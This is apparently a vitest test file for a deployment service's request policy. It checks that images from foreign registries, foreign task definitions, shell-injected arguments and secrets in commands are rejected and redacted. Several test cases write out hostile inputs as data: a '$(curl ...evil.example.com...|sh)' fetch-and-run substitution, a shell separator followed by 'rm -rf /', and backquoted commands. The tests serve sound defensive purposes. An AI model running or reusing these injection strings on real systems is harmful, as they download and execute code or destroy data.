import { describe, expect, it } from 'vitest';
import { checkCommand } from '../../src/core/command-policy.js';
import { redact } from '../../src/core/redact.js';
import { actionsOf, ctx, decideOn, emitted, eventTypes, idleState, only, sample, service, TD, withEvent } from '../support/fixtures.js';

/**
 * Issue 10, defects 1 and 4: what a deploy-request or run-command may name. Each case here was accepted
 * (decision "launch") before the request policy existed.
 */

const REGISTRY = '123456789012.dkr.ecr.eu-west-1.amazonaws.com';
const DIGEST = `sha256:${'ab'.repeat(32)}`;

const deployImage = (image: string) => decideOn(withEvent(sample('deploy-request'), { detail: { image } }), idleState());
const runWith = (detail: Record<string, unknown>, overrides: Record<string, string> = {}) =>
  decideOn(withEvent(sample('run-command'), { detail }), idleState(), ctx(overrides));

describe('images only from REGISTRY/REPOSITORY (defect 1)', () => {
  it('rejects an image from another registry, saying which registry is allowed', () => {
    const d = deployImage('evil.example.com/backdoor:latest');
    expect(d.decision).toBe('reject');
    expect(d.reason).toContain('evil.example.com/backdoor:latest');
    expect(d.reason).toContain(`${REGISTRY}/shop-api`);
    expect(eventTypes(d)).toEqual(['Event Rejected']);
  });

  it.each([
    ['another repository of the registry', `${REGISTRY}/other-app:v1`],
    ['the registry of another account', `210987654321.dkr.ecr.eu-west-1.amazonaws.com/shop-api:v1`],
    ['the registry in another region', `123456789012.dkr.ecr.us-east-1.amazonaws.com/shop-api:v1`],
    ['a repository whose name only starts like ours', `${REGISTRY}/shop-api-evil:v1`],
    ['a path below our repository', `${REGISTRY}/shop-api/evil:v1`],
    ['no tag and no digest (latest by default)', `${REGISTRY}/shop-api`],
    ['a malformed digest', `${REGISTRY}/shop-api@sha256:1234`],
    ['a registry with a user name', `user@${REGISTRY}/shop-api:v1`],
  ])('rejects %s', (_what, image) => {
    expect(deployImage(image).decision).toBe('reject');
  });

  it('accepts the configured repository by tag and by digest, and tag plus digest', () => {
    for (const image of [`${REGISTRY}/shop-api:v1.5.0`, `${REGISTRY}/shop-api@${DIGEST}`, `${REGISTRY}/shop-api:v1.5.0@${DIGEST}`]) {
      expect(deployImage(image).decision, image).toBe('launch');
    }
  });

  it('rejects a run-command image from another registry', () => {
    expect(runWith({ image: 'evil.example.com/backdoor:latest' }).decision).toBe('reject');
  });

  it('follows REGISTRY when it names another registry', () => {
    const d = decideOn(
      withEvent(sample('deploy-request'), { detail: { image: 'registry.example.com/shop-api:v2' } }),
      idleState(),
      ctx({ REGISTRY: 'registry.example.com' }),
    );
    expect(d.decision).toBe('launch');
  });
});

describe('the image of an ECR push (defect 3)', () => {
  it("is built from REGISTRY, not from the event's account and region", () => {
    const push = withEvent(sample('ecr-push'), { top: { account: '210987654321', region: 'us-east-1' } });
    const d = decideOn(push, idleState());
    expect(d.decision).toBe('launch');
    expect(only(d, 'launchTask').request.image).toMatch(new RegExp(`^${REGISTRY.replaceAll('.', '\\.')}/shop-api@sha256:`));
  });
});

describe('a taskDefinitionArn only of the service family, account and region (defect 1)', () => {
  const request = (taskDefinitionArn: string) =>
    decideOn(withEvent(sample('deploy-request-task-definition'), { detail: { taskDefinitionArn } }), idleState());

  it('accepts a revision of the service family', () => {
    expect(request(TD(44)).decision).toBe('launch');
  });

  it.each([
    ['another family', 'arn:aws:ecs:eu-west-1:123456789012:task-definition/backdoor:1'],
    ['another account', 'arn:aws:ecs:eu-west-1:210987654321:task-definition/shop-api:44'],
    ['another region', 'arn:aws:ecs:us-east-1:123456789012:task-definition/shop-api:44'],
  ])('rejects %s', (_what, arn) => {
    const d = request(arn);
    expect(d.decision).toBe('reject');
    expect(d.reason).toContain(arn);
  });

  it('rejects a task definition when the service (and so its family) could not be read', () => {
    const d = decideOn(sample('deploy-request-task-definition'), idleState({ service: undefined, serviceProblem: 'not found' }));
    expect(d.decision).toBe('reject');
  });

  it('checks a run-command taskDefinitionArn the same way', () => {
    expect(runWith({ taskDefinitionArn: 'arn:aws:ecs:eu-west-1:123456789012:task-definition/backdoor:1' }).decision).toBe('reject');
    expect(runWith({ taskDefinitionArn: service.taskDefinitionArn }).decision).toBe('launch');
  });
});

describe('command arguments (defect 4)', () => {
  it.each([
    ['a command substitution', ['db-rollback', '--to', '$(curl https://evil.example.com/x|sh)']],
    ['a database URL of the attacker', ['db-rollback', '--database-url=postgres://attacker@evil.example.com/db']],
    ['a shell separator', ['db-rollback', '--to', '1', ';', 'rm', '-rf', '/']],
    ['a back-quoted command', ['db-seed', '`id`']],
    ['a newline', ['db-seed', 'a\nb']],
  ])('rejects %s by default', (_what, command) => {
    const d = runWith({ command });
    expect(d.decision).toBe('reject');
    expect(eventTypes(d)).toEqual(['Event Rejected']);
  });

  it('accepts plain arguments by default', () => {
    expect(runWith({ command: ['db-rollback', '--to', '20261101120000'] }).decision).toBe('launch');
    expect(runWith({ command: ['db-seed', '--count=10', '-v'] }).decision).toBe('launch');
  });

  it('holds a deploy-request command to the same rules', () => {
    const d = decideOn(withEvent(sample('deploy-request'), { detail: { command: ['db-migrate', '$(id)'] } }), idleState());
    expect(d.decision).toBe('reject');
  });

  it('lets an ALLOWED_COMMANDS entry constrain the arguments', () => {
    const allowed = { ALLOWED_COMMANDS: 'db-rollback --to *,db-seed' };
    expect(runWith({ command: ['db-rollback', '--to', '20261101120000'] }, allowed).decision).toBe('launch');
    expect(runWith({ command: ['db-rollback', '--all'] }, allowed).decision).toBe('reject');
    expect(runWith({ command: ['db-rollback', '--to', '1', '--force'] }, allowed).decision).toBe('reject');
    expect(runWith({ command: ['db-rollback'] }, allowed).decision).toBe('reject');
    // A "*" of a pattern is still held to the conservative character set.
    expect(runWith({ command: ['db-rollback', '--to', '$(id)'] }, allowed).decision).toBe('reject');
  });

  it('rejects an argument that looks like a secret instead of storing it, without echoing it', () => {
    const d = runWith({ command: ['db-seed', '--password=hunter2hunter2'] });
    expect(d.decision).toBe('reject');
    expect(JSON.stringify(only(d, 'putEvent'))).not.toContain('hunter2hunter2');
    expect(d.reason).not.toContain('hunter2hunter2');
  });
});

describe('pause-hook mode: requests that would register a revision or update a service', () => {
  // The stack has neither ecs:RegisterTaskDefinition nor ecs:UpdateService in this mode: the services' owner deploys.
  const hookMode = { ROLLOUT_MODE: 'pause-hook' };
  const inHookMode = (raw: Record<string, unknown>) => decideOn(raw, idleState(), ctx(hookMode));
  const OWNER_DEPLOYS =
    "in pause-hook mode the services' owner deploys; ecs-migrate answers their paused deployments: deploy the service instead";

  it.each([
    ['of an image', sample('deploy-request')],
    ['of a task definition', sample('deploy-request-task-definition')],
    ['that reruns an image', sample('deploy-request-rerun')],
  ])('refuses a deploy-request %s, saying to deploy the service instead', (_what, raw) => {
    const d = inHookMode(raw);
    expect(d).toMatchObject({ decision: 'reject', reason: OWNER_DEPLOYS });
    expect(eventTypes(d)).toEqual(['Event Rejected']);
    expect(actionsOf(d, 'launchTask')).toHaveLength(0);
  });

  it('refuses a run-command that names an image (it would register a revision for it)', () => {
    const image = `${REGISTRY}/shop-api:v1.5.0`;
    const d = inHookMode(withEvent(sample('run-command'), { detail: { image } }));
    expect(d.decision).toBe('reject');
    expect(d.reason).toMatch(/^in pause-hook mode a run-command cannot name an image/);
    expect(d.reason).toContain(image);
    expect(eventTypes(d)).toEqual(['Event Rejected']);
  });

  it('runs a run-command with no image, or with a taskDefinitionArn, as it is (nothing registered)', () => {
    const asItIs = inHookMode(sample('run-command'));
    expect(asItIs.decision).toBe('launch');
    expect(only(asItIs, 'launchTask').request).toMatchObject({ taskDefinitionArn: service.taskDefinitionArn });
    expect(only(asItIs, 'launchTask').request.image).toBeUndefined();
    const named = inHookMode(withEvent(sample('run-command'), { detail: { taskDefinitionArn: TD(44) } }));
    expect(named.decision).toBe('launch');
    expect(only(named, 'launchTask').request).toMatchObject({ taskDefinitionArn: TD(44) });
    expect(only(named, 'launchTask').request.image).toBeUndefined();
  });

  it('leaves update-service mode alone: the same requests launch there', () => {
    for (const raw of [sample('deploy-request'), withEvent(sample('run-command'), { detail: { image: `${REGISTRY}/shop-api:v1.5.0` } })])
      expect(decideOn(raw, idleState()).decision).toBe('launch');
  });
});

describe('a rejected request echoes no secret a cut split from what makes it one', () => {
  /**
   * checkImage quoted the image cut to 200 characters, unredacted; the reason was redacted only afterwards (`reject`),
   * when the `@` that makes `user:token@host` a credential was gone.
   */
  it('an image reference carrying registry credentials: the token does not reach the reason or Event Rejected', () => {
    const token = 'glpat-R8x2Lq9Vt4Zm7Nc1Pw5Ks3Hd6Fj0Gb8Ya2Ue4Wq';
    const image = `https://${'ci-deploy-bot-'.repeat(12)}:${token}@registry.example.com/shop-api:v1.5.0`;
    // Sanity: redacted whole, the credential is hidden.
    expect(redact(image)).not.toContain(token.slice(0, 16));

    const decision = decideOn(withEvent(sample('deploy-request'), { detail: { image } }), idleState());
    expect(decision.decision).toBe('reject');
    expect(decision.reason).not.toContain(token.slice(0, 16));
    expect(JSON.stringify(emitted(decision))).not.toContain(token.slice(0, 16));
  });

  /**
   * The echo's window of 800 characters (`redactForEcho`) could end inside a connection string, before its `@`; a long
   * first argument whose value redaction shrinks brought the cut part into the 200 characters echoed.
   */
  it('a refused command: a connection-string password cut by the echo window is not echoed', () => {
    const password = 'hunter2-Sup3rS3cret-Pa55w0rd';
    const command = ['db-seed', `password=${'x'.repeat(740)}`, `postgres://admin:${password}@db.internal:5432/shop`];
    // Sanity: the password straddles the 800-character window, and redacted whole the command hides it.
    const at = command.join(' ').indexOf(password);
    expect(at).toBeLessThan(800);
    expect(at + password.length).toBeGreaterThan(800);
    expect(redact(command.join(' '))).not.toContain(password.slice(0, 12));

    const decision = decideOn(withEvent(sample('run-command'), { detail: { command } }), idleState());
    expect(decision.decision).toBe('reject');
    expect(decision.reason).not.toContain(password.slice(0, 12));
    expect(JSON.stringify(emitted(decision))).not.toContain(password.slice(0, 12));
  });
});

describe('a secret option and its value as two words', () => {
  /**
   * `--password=` `<value>` and `password` `:` `<value>` were refused, but not the usual CLI spelling `--password
   * <value>` (the redactor's key=value rule needs `:` or `=`): the password was stored and emitted with the command.
   */
  const rules = { allowed: ['db-seed'], redact, migrationCommand: ['db-migrate'] };

  it('refuses `--password <value>`', () => {
    const checked = checkCommand(['db-seed', '--password', 'hunter2-Sup3rS3cret'], rules);
    expect(checked).toMatchObject({ ok: false, reason: expect.stringContaining('"--password [REDACTED]"') });
    expect(JSON.stringify(checked)).not.toContain('hunter2');
    // An option's value that is another option, and options without secret words, are left alone.
    expect(checkCommand(['db-seed', '--password', '--verbose'], rules).ok).toBe(true);
    expect(checkCommand(['db-seed', '--tenant', 'acme'], rules).ok).toBe(true);
  });

  // Was: only a word starting with `-` was read as an option; a key word alone (`DB_PASSWORD <value>`) and its value
  // were launched, stored and emitted. So was a value starting with `-` or `,` (safe-set characters a password may start with).
  it.each([
    ['DB_PASSWORD <value>', ['db-seed', 'DB_PASSWORD', 'hunter2-Sup3rS3cret']],
    ['set API_TOKEN <value>', ['db-seed', 'set', 'API_TOKEN', 'hunter2-Sup3rS3cret']],
    ['DB_PASSWORD -<value>', ['db-seed', 'DB_PASSWORD', '-hunter2Sup3rS3cret']],
    ['DB_PASSWORD ,<value>', ['db-seed', 'DB_PASSWORD', ',hunter2Sup3rS3cret']],
    ['--password -<value>', ['db-seed', '--password', '-hunter2Sup3rS3cret']],
  ])('refuses a secret key word and its value: %s', (_what, argv) => {
    const checked = checkCommand(argv, rules);
    expect(checked).toMatchObject({ ok: false, reason: expect.stringContaining('[REDACTED]') });
    expect(JSON.stringify(checked)).not.toContain('hunter2');
  });

  it('leaves words without secret words, and lowercase arguments that merely hold one, alone', () => {
    expect(checkCommand(['db-seed', 'set', 'tenant', 'acme'], rules).ok).toBe(true);
    // A rollback of Django's `auth` app (and `oauth2_provider`'s): arguments, not a key and its value.
    const django = { allowed: ['manage.py migrate * *'], redact };
    expect(checkCommand(['manage.py', 'migrate', 'auth', '0012'], django).ok).toBe(true);
    expect(checkCommand(['manage.py', 'migrate', 'oauth2_provider', '0005'], django).ok).toBe(true);
  });

  it('a run-command with `--password <value>` is not launched and its password is not stored', () => {
    const command = ['db-seed', '--password', 'hunter2-Sup3rS3cret'];
    const decision = decideOn(withEvent(sample('run-command'), { detail: { command } }), idleState());
    expect(decision.decision).toBe('reject');
    expect(JSON.stringify(decision.actions)).not.toContain('hunter2-Sup3rS3cret');
  });
});
